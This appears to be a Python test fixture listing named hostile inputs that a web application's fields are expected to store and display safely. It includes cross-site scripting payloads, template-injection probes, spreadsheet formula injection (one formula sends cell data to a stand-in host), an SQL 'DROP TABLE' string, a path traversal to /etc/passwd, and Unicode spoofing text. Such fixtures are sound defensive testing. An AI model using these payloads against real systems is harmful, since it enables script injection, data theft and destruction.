"""Texts that somebody could put into a field: some would run, hide, turn around or pass for others if a page let them."""

# Kept as they are wherever they come in. By name, so that a failure says which.
KEPT = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '" autofocus onfocus=\'alert(1)\' style="position:fixed" x="',
    "quote": "' onmouseover='alert(1)",
    "svg": '"><svg/onload=alert(1)><style>*{display:none}</style>',
    "closing": "</bdi></dd></textarea></title></script><iframe srcdoc='<script>alert(1)</script>'>",
    "template": "{{ 7|add:7 }}{% csrf_token %}{{ request.user.password }}${7*7}<%= 7 %>",
    "format": "{0.__class__} {actor} {x!r} %s %(x)s %n {",
    "address": "javascript:alert(1)//",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "css": "url(//elsewhere.example/x); } body { background: expression(alert(1)) } @import '//elsewhere.example'",
    "entity": "&lt;script&gt;alert(1)&#x3c;/script&#62;&amp;amp;",
    "cdata": "]]><![CDATA[<b>--><!-- <b>",
    "markdown": "[here](javascript:alert(1)) ![x](x onerror=alert(1)) <b onclick=alert(1)>b</b> `</code><script>`",
    "formula": '=HYPERLINK("http://elsewhere.example/?"&A1;"open")',
    "formula after a tab": "\t@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "pay \u202egnp.exe\u202c \u2066now\u2069 \u061c\u200f",
    "zero width": "pay\u200bpal\u200d\u2060\ufeff\u00ad",
    "combining": "Z" + "\u0301\u0302\u0327\u0334" * 40 + "algo",
    "right to left": "مقارنة الصندوقين أ و ب",
    "composed": "caf\u00e9",
    "decomposed": "cafe\u0301",
    "lookalike": "p\u0430yp\u0430l \u0391pple",
    "emoji": "👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e007f",
    "tags": "\U000e0001\U000e0068\U000e0069",
    "nonbreaking": "1\u00a0000\u202f000\u3000.",
    "noncharacter": "a\ufffe\uffff\U0010ffffb",
    "controls": "a\x01\x08\x1b[31m\x7f\x85b",
    "lines": "one\ntwo\u2028three\u2029four",
    "sql": "'; DROP TABLE runs_run; --",
    "path": "../../etc/passwd\\..\\con",
    "at the limit": "abcdefghi " * 399 + "abcdefghij",  # of what a reason may have: 4000
    "long": "abcdefghi " * 10_000,
}
# No store takes these: each has to be refused by name.
IMPOSSIBLE = {"nul": "a\x00b", "surrogate": "a\ud800b"}
